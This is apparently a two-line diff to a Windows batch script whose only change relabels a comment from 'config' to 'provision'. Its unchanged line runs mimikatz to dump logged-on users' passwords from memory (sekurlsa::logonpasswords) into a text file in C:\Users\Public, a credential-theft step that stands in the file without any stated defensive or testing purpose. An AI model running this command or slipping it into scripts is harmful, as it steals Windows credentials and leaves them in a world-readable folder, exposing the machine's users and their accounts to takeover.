@@ -1,2 +1,2 @@
-REM config 5249 v0
+REM provision 3807 v0
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
